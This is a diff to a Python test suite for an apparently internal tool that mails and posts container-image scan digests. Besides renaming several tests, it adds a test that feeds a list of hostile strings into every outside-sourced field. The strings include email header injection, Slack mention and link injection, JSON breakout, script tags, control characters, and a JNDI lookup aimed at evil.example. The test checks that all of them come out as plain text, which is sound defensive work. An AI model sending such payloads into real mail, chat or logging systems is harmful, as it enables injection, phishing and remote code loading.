@@ -123,7 +123,7 @@ def test_first_digest_has_no_changes() -> None:
     assert snapshot == {"team-a/app": RepositorySnapshot(Ledger(), 2)}
 
 
-def test_week_without_news_is_said() -> None:
+def test_digest_says_nothing_new() -> None:
     one = summary(open=Counter(HIGH=2), ledger=Ledger(new=2))
     [message] = messages_of(digest_of([one], snapshot_of([one])))
     assert message.subject == "[ECR] Nothing new, 10 of 10 images scanned in time"
@@ -143,7 +143,7 @@ def test_no_run_does_not_look_like_health() -> None:
     assert "\nChanges\n  Nothing is known yet.\n" in message.email
 
 
-def test_old_run_does_not_look_like_health() -> None:
+def test_stale_run_is_reported() -> None:
     old = summary("team-a/old", updated_at=NOW - timedelta(days=2, seconds=1))
     fresh = summary("team-a/fresh", updated_at=NOW - timedelta(days=2))
     [message] = messages_of(digest_of([fresh, old], {}))
@@ -155,7 +155,7 @@ def test_old_run_does_not_look_like_health() -> None:
     assert "  No run since 21 Nov 2026. By then:\n  10 of 10 images scanned in time.\n" in message.email
 
 
-def test_promise_leaves_out_what_nothing_is_promised_for() -> None:
+def test_promise_excludes_archived_and_unselected() -> None:
     coverage = {"images": 20, "in_time": 12, "never_scanned": 1, "expired": 2, "archived": 3, "not_selected": 1}
     digest = digest_of([summary(coverage=coverage, examples={"expired": ["1.0", "sha256:7f5b2640fe6f"]})], {})
     assert (digest.images, digest.in_time) == (16, 12)
@@ -216,7 +216,7 @@ def test_overdue_findings_are_named_with_date_and_days() -> None:
     )
 
 
-def test_notices_need_people() -> None:
+def test_notices_are_listed_under_needs_you() -> None:
     notices = Notices(
         rules=("The rule for CVE-2025-1111 ends in 9 days.", "The rule for zlib has never matched."),
         dlqs={"images-dlq": 2, "reports-dlq": 1_000},
@@ -446,3 +446,64 @@ def test_books_balance(history: list[dict[str, RepositorySummary]]) -> None:
                 kept = "new", "back", "fixed", "withdrawn", "new_critical"
                 assert [getattr(row.changes, name) for name in kept] == [getattr(ledger, name) for name in kept]
         before = after
+
+
+HOSTILE = [
+    "a\r\nBcc: all@example.com\r\n\r\nA second mail",
+    "<!channel> <@U0123456789> & <https://evil.example|click>",
+    "[click](https://evil.example) *bold* _it_ ~no~ `code` ```block```",
+    '"},"default":"x","email":"y',
+    "<script>alert(1)</script>",
+    "\u202eoverride\u2066 \x00 \x1b[31m \u2028 \u0085",
+    "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}",
+    "日本語/イメージ 🐳",
+    "x" * 500,
+    "`" * 301,
+]
+
+
+def message_about(text: str) -> ReportMessage:
+    """Return the digest of a group with the text in every place that has one from outside."""
+    name = f"{text}/app"
+    one = summary(
+        name,
+        updated_at=NOW - 9 * WEEK,
+        coverage={"images": 9, "in_time": 6, "failed": 1, "unsupported": 1, "never_scanned": 1},
+        examples={reason: [text] for reason in ("failed", "unsupported", "never_scanned")},
+        open=Counter(HIGH=2),
+        ledger=Ledger(new=2, new_high=2),
+        updates=[Update(text, (text,), (text,), Counter(HIGH=2)), Update(text, (text,), (), Counter(HIGH=1))],
+        overdue=1,
+        overdue_worst=[OverdueFinding(text, text, text, "HIGH", NOW - WEEK)],
+    )
+    notices = Notices((f"The rule for {text} ends in 9 days.",), {text: 2}, (text,), (f"Could not count {text}.",))
+    [message] = messages_of(replace(digest_of([one], {}, notices), group=text))
+    return message
+
+
+def outside_code(description: str) -> str:
+    """Return the text of a chat message outside its code spans."""
+    return re.sub(r"`[^`\n]*`", "", description)
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_hostile_names_are_text_in_mail_and_chat(text: str) -> None:
+    message, harmless = message_about(text), message_about("harmless")
+    lines = message.email.split("\n")
+    assert all(line.isprintable() for line in lines)
+    assert not [line for line in lines if line.startswith(("Bcc", "A second mail"))]
+    # A long text moves what follows to a line of its own.
+    assert abs(len(lines) - harmless.email.count("\n") - 1) <= 12
+    chat, expected = (json.loads(one.chat)["content"] for one in (message, harmless))
+    description = chat["description"]
+    assert description.count("`") % 2 == 0
+    assert "`" not in outside_code(description)
+    # Slack reads commands such as <!channel> in code spans as well.
+    assert "<" not in description
+    assert outside_code(description) == outside_code(expected["description"])
+    assert chat["title"] == expected["title"]
+    document = json.loads(message.document)
+    assert document["group"] == document["updates"][0]["package"] == document["overdue"]["worst"][0]["id"] == text
+    assert document["repositories"][0]["repository"] == f"{text}/app"
+    report, *_ = publications(message)
+    assert json.loads(report.parameters["Message"]).keys() == {"default", "email"}
